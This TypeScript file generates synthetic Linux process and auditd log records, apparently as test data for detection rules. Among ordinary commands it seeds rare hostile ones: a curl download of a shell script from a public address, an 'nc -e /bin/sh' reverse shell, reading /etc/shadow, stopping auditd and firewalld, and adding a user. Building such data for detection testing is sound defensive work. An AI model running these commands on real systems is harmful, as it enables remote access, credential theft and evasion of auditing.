import type { Random } from '../random.ts'
import type { Lane, LaneRecord } from './lane.ts'
import { isoTime, timeMs } from './lane.ts'

type Command = { path: string; words: (random: Random) => readonly string[] }

const command = (path: string, words: Command['words']): Command => ({ path, words })

const DAILY_COMMANDS: readonly Command[] = [
  command('/usr/bin/bash', (r) => ['-c', `/opt/jobs/${r.token(8)}.sh ${r.whole(1, 400)}`]),
  command('/usr/bin/grep', (r) => ['-c', r.token(9), `/var/log/${r.token(6)}.log`]),
  command('/usr/bin/python3', (r) => [
    `/srv/app/${r.token(6)}/main.py`,
    '--port',
    String(r.whole(4000, 9999)),
  ]),
  command('/usr/bin/find', (r) => [
    `/srv/data/${r.token(6)}`,
    '-mtime',
    `+${r.whole(1, 90)}`,
    '-name',
    `${r.token(4)}*`,
  ]),
  command('/usr/bin/ls', (r) => ['-la', `/home/dev${r.whole(1, 300)}/${r.token(7)}`]),
  command('/usr/bin/awk', (r) => [`{ print $${r.whole(1, 9)} }`, `/tmp/${r.token(8)}`]),
  command('/usr/bin/node', (r) => [`/srv/web/${r.token(7)}/server.js`, `--id=${r.guid()}`]),
  command('/usr/sbin/sshd', (r) => ['-D', '-R', String(r.whole(1, 99))]),
  command('/usr/bin/git', (r) => [
    '-C',
    `/srv/repos/${r.token(9)}`,
    'fetch',
    '--depth',
    String(r.whole(1, 50)),
  ]),
  command('/usr/lib/systemd/systemd-executor', (r) => [
    '--deserialize',
    String(r.whole(20, 200)),
    '--log-level',
    'info',
  ]),
  command('/usr/bin/rsync', (r) => [
    '-a',
    `/srv/${r.token(5)}/`,
    `${r.privateAddress()}:/backup/${r.token(5)}/`,
  ]),
  command('/usr/bin/java', (r) => [
    `-Xmx${r.whole(1, 32)}g`,
    '-jar',
    `/opt/${r.token(6)}/${r.token(8)}.jar`,
    `--node=${r.hex(8)}`,
  ]),
]
const RARE_COMMANDS: readonly Command[] = [
  command('/usr/bin/whoami', () => []),
  command('/usr/bin/cat', (r) => [r.pick(['/etc/shadow', '/etc/passwd', '/proc/version'])]),
  command('/usr/bin/curl', (r) => [
    '-fsSL',
    `http://${r.publicAddress()}/${r.token(6)}.sh`,
    '-o',
    `/tmp/${r.token(6)}`,
  ]),
  command('/usr/bin/base64', (r) => ['-d', `/tmp/${r.token(6)}`]),
  command('/usr/bin/crontab', (r) => [`/tmp/${r.token(6)}`]),
  command('/usr/bin/chmod', (r) => ['+x', `/tmp/${r.token(8)}`]),
  command('/usr/bin/nc', (r) => ['-e', '/bin/sh', r.publicAddress(), String(r.whole(1024, 9999))]),
  command('/usr/sbin/useradd', (r) => ['-m', `svc${r.whole(1, 99)}`]),
  command('/usr/bin/systemctl', (r) => [
    'stop',
    r.pick(['auditd', 'firewalld', `${r.token(5)}.timer`]),
  ]),
  command('/usr/bin/dd', (r) => ['if=/dev/zero', `of=/tmp/${r.token(5)}`, 'bs=1M']),
]
const PARENTS = [
  '/usr/lib/systemd/systemd',
  '/usr/bin/bash',
  '/usr/sbin/cron',
  '/usr/sbin/sshd',
  '/usr/bin/containerd-shim',
] as const
const USERS = (random: Random): string =>
  random.pick(['root', 'root', 'www-data', `dev${random.whole(1, 300)}`])

/** Processes of Linux machines, one record each. */
export const LINUX_PROCESS: Lane = {
  name: 'linux_process',
  describes: 'Linux processes started',
  logsource: { product: 'linux', category: 'process_creation' },
  record: (random, index) => {
    const { path, words } = commandOf(random)
    return {
      UtcTime: isoTime(random, index),
      Computer: `lnx-${random.whole(1, 400)}.corp.example`,
      ProcessGuid: `{${random.guid()}}`,
      ProcessId: random.whole(2, 400_000),
      Image: path,
      CommandLine: [path.slice(path.lastIndexOf('/') + 1), ...words(random)].join(' '),
      CurrentDirectory: random.pick(['/', '/root', `/home/dev${random.whole(1, 300)}`, '/srv']),
      User: USERS(random),
      LogonId: String(random.whole(0, 9000)),
      TerminalSessionId: random.whole(0, 900),
      Hashes: `SHA256=${random.hex(64)}`,
      ParentProcessGuid: `{${random.guid()}}`,
      ParentProcessId: random.whole(1, 400_000),
      ParentImage: random.skewed(PARENTS),
      ParentCommandLine: `${random.pick(PARENTS)} --${random.token(6)} ${random.whole(1, 9999)}`,
      ParentUser: USERS(random),
    }
  },
}

/** The kernel's audit trail: system calls, arguments and paths in records of their own. */
export const LINUX_AUDIT: Lane = {
  name: 'linux_audit',
  describes: 'Linux audit records: SYSCALL, EXECVE, PATH',
  logsource: { product: 'linux', service: 'auditd' },
  record: (random, index) => {
    const serial = `${(timeMs(random, index) / 1000).toFixed(3)}:${100_000 + index}`
    const { path, words } = commandOf(random)
    const name = path.slice(path.lastIndexOf('/') + 1)
    const head: LaneRecord = {
      msg: `audit(${serial})`,
      node: `lnx-${random.whole(1, 400)}.corp.example`,
    }
    return random.pick<() => LaneRecord>([
      () => ({ type: 'EXECVE', ...head, ...argumentsOf([name, ...words(random)]) }),
      () => ({ type: 'SYSCALL', ...head, ...systemCall(random, path) }),
      () => ({ type: 'PATH', ...head, ...pathRecord(random, path) }),
    ])()
  },
}

function commandOf(random: Random): Command {
  return random.chance(0.04) ? random.pick(RARE_COMMANDS) : random.skewed(DAILY_COMMANDS)
}

function argumentsOf(words: readonly string[]): LaneRecord {
  const named = words.map((word, place) => [`a${place}`, word] as const)
  return { argc: words.length, ...Object.fromEntries(named) }
}

function systemCall(random: Random, path: string): LaneRecord {
  return {
    arch: 'c000003e',
    syscall: random.pick([59, 257, 2, 42, 87, 90]),
    SYSCALL: random.pick(['execve', 'openat', 'connect', 'unlink', 'chmod']),
    success: random.chance(0.93) ? 'yes' : 'no',
    exit: random.whole(-13, 12),
    a0: random.hex(12),
    a1: random.hex(12),
    a2: random.hex(8),
    ppid: random.whole(1, 400_000),
    pid: random.whole(1, 400_000),
    auid: random.pick([4_294_967_295, 1000, 1001, 0]),
    uid: random.pick([0, 0, 33, 1000]),
    tty: random.pick(['(none)', 'pts0', 'pts1']),
    ses: random.whole(1, 9000),
    comm: path.slice(path.lastIndexOf('/') + 1),
    exe: path,
    key: random.pick(['exec', 'access', 'network_out', '(null)']),
  }
}

function pathRecord(random: Random, path: string): LaneRecord {
  const elsewhere = random.pick([
    `/etc/${random.token(6)}.conf`,
    `/tmp/${random.token(9)}`,
    '/etc/passwd',
  ])
  return {
    item: random.whole(0, 2),
    name: random.chance(0.6) ? path : elsewhere,
    inode: random.whole(1000, 9_000_000),
    dev: 'fd:00',
    mode: '0100755',
    ouid: random.pick([0, 1000]),
    nametype: random.pick(['NORMAL', 'CREATE', 'PARENT', 'DELETE']),
    cap_fe: 0,
  }
}
